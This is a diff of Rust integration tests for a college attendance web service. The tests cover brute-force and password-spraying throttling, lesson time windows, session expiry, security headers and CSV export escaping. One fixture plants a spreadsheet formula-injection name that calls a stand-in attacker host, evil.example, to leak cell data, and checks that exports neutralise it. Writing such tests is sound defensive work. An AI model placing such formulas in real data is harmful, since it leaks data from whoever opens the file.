@@ -173,81 +173,137 @@ fn one_device_for_two_students() {
     );
 }
 
+/// Another client: the same machine, another loopback source address.
+fn from(college: &College, last: u8) -> Client {
+    kasip_tests::browser_from(
+        &college.dir.path(),
+        "en",
+        std::net::IpAddr::from([127, 0, 0, last]),
+    )
+}
+
+const SLOW_DOWN: &str = "Too many wrong tries from this device. Wait a little before the next one.";
+
+/// A 429 with the sentence and a Retry-After of at least a second.
+fn assert_slowed(response: Response) {
+    let retry_after: u64 = response
+        .headers()
+        .get("retry-after")
+        .and_then(|value| value.to_str().ok())
+        .and_then(|value| value.parse().ok())
+        .expect("a Retry-After header");
+    assert!(retry_after >= 1);
+    assert_refused(response, 429, SLOW_DOWN);
+}
+
 #[test]
-fn brute_force_of_binding_codes() {
+fn brute_force_of_binding_codes_slows_the_guesser_not_the_student() {
     let college = College::new(3);
     let iin = college.group_a[0].clone();
     let code = college.issue_code(&iin);
     let before = college.recorded();
-    let attacker = english(&college);
-    for guess in ["AAAAAAAA", "BBBBBBBB", "CCCCCCCC", "DDDDDDDD"] {
+    let attacker = from(&college, 2);
+    for guess in ["AAAAAAAA", "BBBBBBBB", "CCCCCCCC", "DDDDDDDD", "EEEEEEEE"] {
         assert_refused(
             college.post_bind(&attacker, &iin, guess, None),
             403,
             "The IIN and code do not match, or the code has expired.",
         );
     }
-    // The fifth wrong guess trips the limit and locks the code for good.
-    assert_refused(
-        college.post_bind(&attacker, &iin, "EEEEEEEE", None),
-        429,
-        "Too many wrong attempts. Ask your curator for a new code.",
-    );
-    assert_refused(
-        college.post_bind(&english(&college), &iin, &code, None),
-        429,
-        "Too many wrong attempts. Ask your curator for a new code.",
-    );
+    // The sixth guess from that address waits, and the waits double.
+    assert_slowed(college.post_bind(&attacker, &iin, "FFFFFFFF", None));
     college.recorded().assert_unchanged_since(&before);
+    // Five guesses, counted on one row of the security log.
     assert_eq!(college.security_events("binding_code_wrong"), 5);
-    // A new code from the curator works.
-    let fresh = college.issue_code(&iin);
-    college.set_clock(lesson_start_plus_one_minute() + 301);
     assert_eq!(
-        college
-            .post_bind(&english(&college), &iin, &fresh, None)
-            .status(),
-        200
+        college.count("SELECT COUNT(*) FROM security_events WHERE kind = 'binding_code_wrong'"),
+        1
     );
+    // The student, on their own phone, binds with their code: the guesser locked nobody.
+    let student = from(&college, 1);
+    assert_eq!(college.post_bind(&student, &iin, &code, None).status(), 200);
+}
+
+/// Posts the sign-in form from `client`.
+fn sign_in_attempt(college: &College, client: &Client, login: &str, password: &str) -> Response {
+    let form = client
+        .get(college.url("/login"))
+        .send()
+        .expect("form")
+        .text()
+        .expect("body");
+    client
+        .post(college.url("/login"))
+        .form(&[
+            ("login", login),
+            ("password", password),
+            ("csrf", &csrf_of(&form)),
+        ])
+        .send()
+        .expect("login")
 }
 
 #[test]
-fn brute_force_of_staff_passwords() {
+fn brute_force_of_staff_passwords_slows_the_guesser_not_the_teacher() {
     let college = College::new(3);
     let before = college.recorded();
-    let attacker = english(&college);
-    let attempt = |password: &str| {
-        let form = attacker
-            .get(college.url("/login"))
-            .send()
-            .expect("form")
-            .text()
-            .expect("body");
-        attacker
-            .post(college.url("/login"))
-            .form(&[
-                ("login", TEACHER_A),
-                ("password", password),
-                ("csrf", &csrf_of(&form)),
-            ])
-            .send()
-            .expect("login")
-    };
+    let attacker = from(&college, 2);
     for guess in ["123456", "password", "qwerty", "Almaty2026", "letmein"] {
-        assert_refused(attempt(guess), 401, "Wrong login or password.");
+        assert_refused(
+            sign_in_attempt(&college, &attacker, TEACHER_A, guess),
+            401,
+            "Wrong login or password.",
+        );
     }
-    // Locked even with the right password, so guessing on cannot confirm a hit.
-    assert_refused(
-        attempt(PASSWORD),
-        429,
-        "Too many attempts. Try again in 5 minutes.",
-    );
+    // Slowed even with the right password, so guessing on cannot confirm a hit.
+    assert_slowed(sign_in_attempt(&college, &attacker, TEACHER_A, PASSWORD));
     assert_eq!(college.count("SELECT COUNT(*) FROM staff_sessions"), 0);
     college.recorded().assert_unchanged_since(&before);
     assert_eq!(college.security_events("login_failed"), 5);
-    // The lock ends with its window.
-    college.set_clock(lesson_start_plus_one_minute() + 301);
-    assert_eq!(attempt(PASSWORD).status(), 303);
+    // The teacher, from their own computer, signs in at once.
+    let teacher = from(&college, 1);
+    assert_eq!(
+        sign_in_attempt(&college, &teacher, TEACHER_A, PASSWORD).status(),
+        303
+    );
+    // A delay, not a lock: once it has passed the guesser may try again (and is slowed
+    // for longer after the next failure).
+    college.set_clock(lesson_start_plus_one_minute() + 2);
+    assert_refused(
+        sign_in_attempt(&college, &attacker, TEACHER_A, "dragon"),
+        401,
+        "Wrong login or password.",
+    );
+    assert_slowed(sign_in_attempt(&college, &attacker, TEACHER_A, PASSWORD));
+}
+
+#[test]
+fn password_spraying_from_one_client_is_slowed() {
+    let college = College::new(3);
+    let sprayer = from(&college, 3);
+    for index in 0..20 {
+        assert_refused(
+            sign_in_attempt(&college, &sprayer, &format!("user{index}"), "Spring2026!"),
+            401,
+            "Wrong login or password.",
+        );
+    }
+    // The 21st account from the same client: slowed, whatever the account.
+    assert_slowed(sign_in_attempt(&college, &sprayer, "admin", "Spring2026!"));
+    // Logins that name no account are not stored: a password typed into the login field
+    // would otherwise sit in the security log.
+    assert_eq!(
+        college.count(
+            "SELECT COUNT(*) FROM security_events WHERE kind = 'login_failed' AND detail LIKE 'user%'"
+        ),
+        0
+    );
+    assert_eq!(college.security_events("login_failed"), 20);
+    // The admin, elsewhere, is not affected.
+    assert_eq!(
+        sign_in_attempt(&college, &from(&college, 1), "admin", PASSWORD).status(),
+        303
+    );
 }
 
 /// A form's fields without its CSRF token.
@@ -723,4 +779,531 @@ fn path_traversal_on_static_files() {
     }
     let unknown = admin.get(college.url("/no/such/page")).send().expect("get");
     assert_refused(unknown, 404, "There is no such page.");
+}
+
+/// Imports one ПО-21 lesson of teacher A on `date` at 09:00–10:30 and returns its id.
+fn lesson_on(college: &College, date: &str) -> i64 {
+    let file = college.dir.file(&format!("timetable-{date}.csv"));
+    std::fs::write(
+        &file,
+        format!(
+            "date;start;end;group;discipline;teacher_iin;site;room;mode\n\
+             {date};09:00;10:30;ПО-21;Математика;{TEACHER_A};Главный корпус;101;offline\n"
+        ),
+    )
+    .expect("csv");
+    let output = common::registry::agent_run(
+        college,
+        &["import", "timetable", file.to_str().expect("path")],
+    );
+    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
+    college
+        .db()
+        .query_row(
+            "SELECT id FROM lessons WHERE date = ?1 AND group_id = (SELECT group_id FROM lessons WHERE id = ?2)",
+            rusqlite::params![date, college.lesson_a],
+            |row| row.get(0),
+        )
+        .expect("lesson")
+}
+
+fn mark_form(
+    client: &Client,
+    college: &College,
+    lesson: i64,
+    student: &str,
+    reason: &str,
+) -> Response {
+    let csrf = college.csrf(client);
+    client
+        .post(college.url(&format!("/teacher/lessons/{lesson}/marks")))
+        .form(&[
+            ("csrf", csrf.as_str()),
+            ("student", student),
+            ("status", "present"),
+            ("reason", reason),
+        ])
+        .send()
+        .expect("mark")
+}
+
+fn open_form(client: &Client, college: &College, lesson: i64) -> Response {
+    let csrf = college.csrf(client);
+    client
+        .post(college.url(&format!("/teacher/lessons/{lesson}/open")))
+        .form(&[("csrf", csrf)])
+        .send()
+        .expect("open")
+}
+
+#[test]
+fn lessons_of_another_day_cannot_be_opened_or_marked_live() {
+    let college = College::with_config(3, |config| config);
+    let next_week = lesson_on(&college, "2026-11-30");
+    let last_week = lesson_on(&college, "2026-11-16");
+    let teacher = staff(&college, TEACHER_A);
+    let admin = staff(&college, "admin");
+    let student = college.group_a[0].clone();
+    let before = college.recorded();
+
+    assert_refused(
+        open_form(&teacher, &college, next_week),
+        409,
+        "Not open yet",
+    );
+    assert_refused(open_form(&teacher, &college, last_week), 409, "Ended.");
+    assert_refused(open_form(&admin, &college, last_week), 409, "Ended.");
+    assert_refused(
+        mark_form(&teacher, &college, last_week, &student, "was there"),
+        409,
+        "only by an admin, with a reason, as a late entry",
+    );
+    assert_refused(
+        mark_form(&admin, &college, next_week, &student, "will be there"),
+        409,
+        "Not open yet",
+    );
+    assert_refused(
+        mark_form(&admin, &college, last_week, &student, "  "),
+        400,
+        "A late entry needs a written reason.",
+    );
+    college.recorded().assert_unchanged_since(&before);
+
+    // The projector of a lesson that is not on says why, in the viewer's language.
+    let shown = college.display(&teacher, next_week);
+    assert_eq!(shown["state"], "scheduled");
+    assert_eq!(shown["svg"], "");
+    assert!(shown["notice"]
+        .as_str()
+        .is_some_and(|notice| notice.starts_with("Not open yet")));
+    assert_eq!(college.display(&teacher, last_week)["state"], "ended");
+
+    // The CLI refuses too, in the language asked for, and exits non-zero.
+    let output = common::registry::agent_run(
+        &college,
+        &["lesson", "open", &last_week.to_string(), "--lang", "kk"],
+    );
+    assert!(!output.status.success());
+    assert!(
+        kasip_tests::text(&output).1.contains("Сабақ аяқталды."),
+        "{:?}",
+        kasip_tests::text(&output)
+    );
+    college.recorded().assert_unchanged_since(&before);
+
+    // An admin's late entry with a reason is recorded as one: who, when, why.
+    let response = mark_form(
+        &admin,
+        &college,
+        last_week,
+        &student,
+        "paper register, signed",
+    );
+    assert_eq!(
+        response.status(),
+        303,
+        "{}",
+        response.text().unwrap_or_default()
+    );
+    let (method, by, reason, at): (String, String, String, i64) = college
+        .db()
+        .query_row(
+            "SELECT method, marked_by, reason, recorded_at FROM attendance_events WHERE lesson_id = ?1",
+            [last_week],
+            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?, row.get(3)?)),
+        )
+        .expect("late entry");
+    assert_eq!(
+        (method.as_str(), by.as_str(), reason.as_str(), at),
+        (
+            "late_entry",
+            "admin",
+            "paper register, signed",
+            lesson_start_plus_one_minute()
+        )
+    );
+}
+
+#[test]
+fn check_ins_stop_at_the_window_even_when_the_clock_steps_back() {
+    let college = College::new(3);
+    let url = open_lesson_a(&college);
+    let phone = phone(&college, &college.group_a[0]);
+    // 08:45: the clock stepped back before the window (from 08:50); the opening stands
+    // but the lesson takes nothing.
+    college.set_clock(lesson_start_plus_one_minute() - 16 * 60);
+    let before = college.recorded();
+    assert_refused(post(&phone, &url), 409, "This lesson is not open.");
+    college.recorded().assert_unchanged_since(&before);
+    // 10:46, one minute past end + grace: nothing, and the CLI cannot reopen it.
+    college.set_clock(lesson_start_plus_one_minute() + 105 * 60);
+    let (status, _) = common::check_in(&phone, &url);
+    assert_ne!(status, 200);
+    let output = common::registry::agent_run(
+        &college,
+        &[
+            "lesson",
+            "open",
+            &college.lesson_a.to_string(),
+            "--lang",
+            "en",
+        ],
+    );
+    assert!(!output.status.success());
+    assert!(kasip_tests::text(&output).1.contains("Ended."));
+    college.recorded().assert_unchanged_since(&before);
+}
+
+/// Every field of a CSV line (`;`-separated, `"`-quoted), unquoted.
+fn csv_fields(line: &str) -> Vec<String> {
+    let mut fields = vec![String::new()];
+    let mut quoted = false;
+    let mut characters = line.chars().peekable();
+    while let Some(character) = characters.next() {
+        match (character, quoted) {
+            ('"', true) if characters.peek() == Some(&'"') => {
+                characters.next();
+                fields.last_mut().expect("field").push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (';', false) => fields.push(String::new()),
+            (other, _) => fields.last_mut().expect("field").push(other),
+        }
+    }
+    fields
+}
+
+#[test]
+fn formulas_in_names_reach_no_spreadsheet() {
+    let college = College::new(2);
+    let hostile = common::student_iins(1, 5000).remove(0);
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2;\"Open\")";
+    let file = college.dir.file("hostile.csv");
+    std::fs::write(
+        &file,
+        format!(
+            "iin;last_name;first_name;group;beneficiary\n{hostile};\"{}\";@SUM(A1);ПО-21;да\n",
+            formula.replace('"', "\"\"")
+        ),
+    )
+    .expect("csv");
+    let output = common::registry::agent_run(
+        &college,
+        &["import", "students", file.to_str().expect("path")],
+    );
+    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
+
+    let admin = staff(&college, "admin");
+    let export = admin
+        .get(college.url("/admin/export/group?code=%D0%9F%D0%9E-21&month=2026-11&format=csv"))
+        .send()
+        .expect("export");
+    assert_eq!(export.status(), 200);
+    let web_csv = export.text().expect("csv");
+
+    let closed = common::registry::agent_run(
+        &college,
+        &[
+            "month-close",
+            "2026-11",
+            "--force",
+            "--reason",
+            "audit",
+            "--lang",
+            "en",
+        ],
+    );
+    assert!(closed.status.success(), "{:?}", kasip_tests::text(&closed));
+    let report_csv =
+        std::fs::read_to_string(college.dir.path().join("reports/month-close-2026-11.csv"))
+            .expect("report");
+
+    for csv in [&web_csv, &report_csv] {
+        let fields: Vec<String> = csv.lines().flat_map(csv_fields).collect();
+        let names: Vec<&String> = fields
+            .iter()
+            .filter(|field| field.contains("HYPERLINK"))
+            .collect();
+        assert!(
+            !names.is_empty(),
+            "the hostile name is in the export: {csv}"
+        );
+        for field in &fields {
+            assert!(
+                !field.starts_with(['=', '+', '@', '\t', '\r']),
+                "a spreadsheet would evaluate {field:?} in {csv}"
+            );
+        }
+        assert!(
+            names.iter().all(|name| name.starts_with("'=HYPERLINK")),
+            "{names:?}"
+        );
+    }
+}
+
+#[test]
+fn every_page_carries_the_security_headers_and_no_inline_code() {
+    let college = College::new(2);
+    let url = open_lesson_a(&college);
+    let admin = staff(&college, "admin");
+    let anonymous = english(&college);
+    let lesson = college.lesson_a;
+    let answers = [
+        (&anonymous, college.url("/login")),
+        (&anonymous, url.clone()),
+        (&anonymous, college.url("/bind")),
+        (&anonymous, college.url("/no/such/page")),
+        (&admin, college.url("/teacher")),
+        (&admin, college.url("/admin")),
+        (&admin, college.url(&format!("/display/{lesson}"))),
+        (&admin, college.url(&format!("/display/{lesson}/current"))),
+        (&admin, college.url("/admin/export/coverage?format=csv")),
+        (&admin, college.url("/admin/export/coverage?format=xlsx")),
+    ];
+    for (client, url) in answers {
+        let response = client.get(&url).send().expect("get");
+        let headers = response.headers().clone();
+        let header = |name: &str| {
+            headers
+                .get(name)
+                .and_then(|value| value.to_str().ok())
+                .unwrap_or_else(|| panic!("{url}: no {name}"))
+                .to_owned()
+        };
+        let policy = header("content-security-policy");
+        assert!(policy.contains("default-src 'self'"), "{url}: {policy}");
+        assert!(policy.contains("frame-ancestors 'none'"), "{url}: {policy}");
+        assert!(!policy.contains("unsafe-inline"), "{url}: {policy}");
+        assert_eq!(header("x-content-type-options"), "nosniff", "{url}");
+        assert_eq!(header("referrer-policy"), "no-referrer", "{url}");
+        assert!(
+            header("strict-transport-security").starts_with("max-age="),
+            "{url}"
+        );
+        assert_eq!(header("cache-control"), "no-store", "{url}");
+        let body = response.text().unwrap_or_default();
+        // Under that policy an inline script or style would not run: there is none.
+        assert!(
+            !body.contains("<script>") && !body.contains("<style"),
+            "{url}: {body}"
+        );
+        assert!(
+            !body.contains(" style=") && !body.contains(" onclick="),
+            "{url}: {body}"
+        );
+    }
+    // Cookies carry the __Host- prefix: this host only, HTTPS only, the whole site.
+    let login = anonymous.get(college.url("/login")).send().expect("login");
+    let set_cookie = login
+        .headers()
+        .get("set-cookie")
+        .and_then(|value| value.to_str().ok())
+        .expect("a CSRF cookie")
+        .to_owned();
+    assert!(
+        set_cookie.starts_with("__Host-kasip_login_csrf="),
+        "{set_cookie}"
+    );
+    assert!(
+        set_cookie.contains("; Secure") && set_cookie.contains("Path=/"),
+        "{set_cookie}"
+    );
+    assert!(
+        !set_cookie.to_ascii_lowercase().contains("domain="),
+        "{set_cookie}"
+    );
+    // The assets themselves may be cached (revalidated) and are what the pages load.
+    for asset in ["/style.css", "/checkin.js", "/display.js", "/pass.js"] {
+        let response = anonymous.get(college.url(asset)).send().expect("asset");
+        assert_eq!(response.status(), 200, "{asset}");
+        assert_eq!(response.headers()["cache-control"], "no-cache", "{asset}");
+    }
+}
+
+/// The length of a projector's typed code.
+const TYPED_CODE_LEN: usize = 6;
+
+fn type_code(college: &College, phone: &Client, code: &str) -> Response {
+    phone
+        .post(college.url("/c"))
+        .form(&[("code", code)])
+        .send()
+        .expect("typed")
+}
+
+#[test]
+fn typed_code_guessing_is_slowed_and_logged_as_one_row() {
+    let college = College::new(3);
+    let teacher = college.teacher(TEACHER_A);
+    college.open_lesson(&teacher, college.lesson_a);
+    let guesser = from(&college, 2);
+    let before = college.recorded();
+    let alphabet = b"ABCDEFGHJK";
+    for guess in alphabet {
+        let code = String::from(char::from(*guess)).repeat(TYPED_CODE_LEN);
+        assert_refused(
+            type_code(&college, &guesser, &code),
+            403,
+            "That code was not found or has expired.",
+        );
+    }
+    assert_slowed(type_code(&college, &guesser, &"M".repeat(TYPED_CODE_LEN)));
+    college.recorded().assert_unchanged_since(&before);
+    assert_eq!(college.security_events("typed_code_unknown"), 10);
+    assert_eq!(
+        college.count("SELECT COUNT(*) FROM security_events WHERE kind = 'typed_code_unknown'"),
+        1,
+        "one row per client and window, not one per guess"
+    );
+    // A student elsewhere types the projector's code and is checked in.
+    let student = phone(&college, &college.group_a[0]);
+    let code = college.display(&teacher, college.lesson_a)["typed_code"]
+        .as_str()
+        .expect("code")
+        .to_owned();
+    let response = type_code(&college, &student, &code);
+    assert_eq!(
+        response.status(),
+        200,
+        "{}",
+        response.text().unwrap_or_default()
+    );
+}
+
+#[test]
+fn old_security_events_are_deleted_after_the_retention_period() {
+    let mut college = College::new(2);
+    let now = lesson_start_plus_one_minute();
+    let db = college.db();
+    for (at, detail) in [(now - 366 * 86_400, "old"), (now - 364 * 86_400, "recent")] {
+        db.execute(
+            "INSERT INTO security_events (at, last_at, kind, detail) VALUES (?1, ?1, 'login_failed', ?2)",
+            rusqlite::params![at, detail],
+        )
+        .expect("event");
+    }
+    drop(db);
+    college.kill_and_restart();
+    let details: Vec<String> = college
+        .db()
+        .prepare("SELECT detail FROM security_events WHERE kind = 'login_failed'")
+        .expect("select")
+        .query_map([], |row| row.get(0))
+        .expect("rows")
+        .collect::<Result<_, _>>()
+        .expect("details");
+    assert_eq!(
+        details,
+        ["recent"],
+        "security.events_keep_days is 365 by default"
+    );
+}
+
+/// The status of a projector poll: 200 while the session lives, 401 after.
+fn poll(college: &College, client: &Client) -> u16 {
+    client
+        .get(college.url(&format!("/display/{}/current", college.lesson_a)))
+        .send()
+        .expect("poll")
+        .status()
+        .as_u16()
+}
+
+#[test]
+fn sessions_end_when_idle_and_a_clock_step_back_does_not_revive_them() {
+    let college = College::new(2);
+    let start = lesson_start_plus_one_minute();
+    let teacher = college.teacher(TEACHER_A);
+    // A projector polling keeps its session alive past the idle limit…
+    for minutes in [20, 40, 60] {
+        college.set_clock(start + minutes * 60);
+        assert_eq!(poll(&college, &teacher), 200, "{minutes} min");
+    }
+    // …and 31 minutes without a request end it.
+    college.set_clock(start + 91 * 60);
+    assert_eq!(poll(&college, &teacher), 401);
+    college.set_clock(start + 70 * 60);
+    assert_eq!(poll(&college, &teacher), 401, "ended stays ended");
+
+    // Twelve hours end any session; setting the clock back does not bring it back.
+    let signed_in = start + 2 * 3600;
+    college.set_clock(signed_in);
+    let admin = staff(&college, "admin");
+    for minutes in (20..12 * 60).step_by(20) {
+        college.set_clock(signed_in + minutes * 60);
+        assert_eq!(poll(&college, &admin), 200, "{minutes} min");
+    }
+    college.set_clock(signed_in + 12 * 3600 + 60);
+    assert_eq!(poll(&college, &admin), 401);
+    college.set_clock(signed_in + 3600);
+    assert_eq!(
+        poll(&college, &admin),
+        401,
+        "the clock went back: still expired"
+    );
+}
+
+#[test]
+fn a_new_password_or_a_disabled_account_ends_every_session() {
+    let college = College::new(2);
+    let office = college.teacher(TEACHER_A);
+    let phone = from(&college, 2);
+    let phone = college.sign_in(phone, TEACHER_A);
+    assert_eq!(
+        (poll(&college, &office), poll(&college, &phone)),
+        (200, 200)
+    );
+    let output = kasip_tests::run_with(
+        common::AGENT,
+        &college.dir.path(),
+        &["staff", "set-password", TEACHER_A],
+        &[],
+        Some("a brand new passphrase"),
+    );
+    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
+    assert_eq!(
+        (poll(&college, &office), poll(&college, &phone)),
+        (401, 401)
+    );
+
+    let admin = staff(&college, "admin");
+    assert_eq!(poll(&college, &admin), 200);
+    let output = common::registry::agent_run(&college, &["staff", "disable", "admin"]);
+    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
+    assert_eq!(poll(&college, &admin), 401);
+    assert_refused(
+        sign_in_attempt(&college, &english(&college), "admin", PASSWORD),
+        401,
+        "Wrong login or password.",
+    );
+    let output = common::registry::agent_run(&college, &["staff", "enable", "admin"]);
+    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
+    assert_eq!(
+        sign_in_attempt(&college, &english(&college), "admin", PASSWORD).status(),
+        303
+    );
+}
+
+#[test]
+fn binding_answers_alike_whether_or_not_the_student_has_a_code() {
+    let college = College::new(3);
+    let with_code = college.group_a[0].clone();
+    let without_code = college.group_a[1].clone();
+    college.issue_code(&with_code);
+    let answer = |iin: &str, last: u8| {
+        let response = college.post_bind(&from(&college, last), iin, "AAAAAAAA", None);
+        let status = response.status().as_u16();
+        let body = response.text().expect("body");
+        // The page up to its fresh CSRF token.
+        let page = body
+            .split("name=csrf")
+            .next()
+            .unwrap_or_default()
+            .to_owned();
+        (status, page)
+    };
+    assert_eq!(answer(&with_code, 2), answer(&without_code, 3));
+    // Both cost the same work: one counted failure in one write.
+    assert_eq!(college.security_events("binding_code_wrong"), 2);
 }
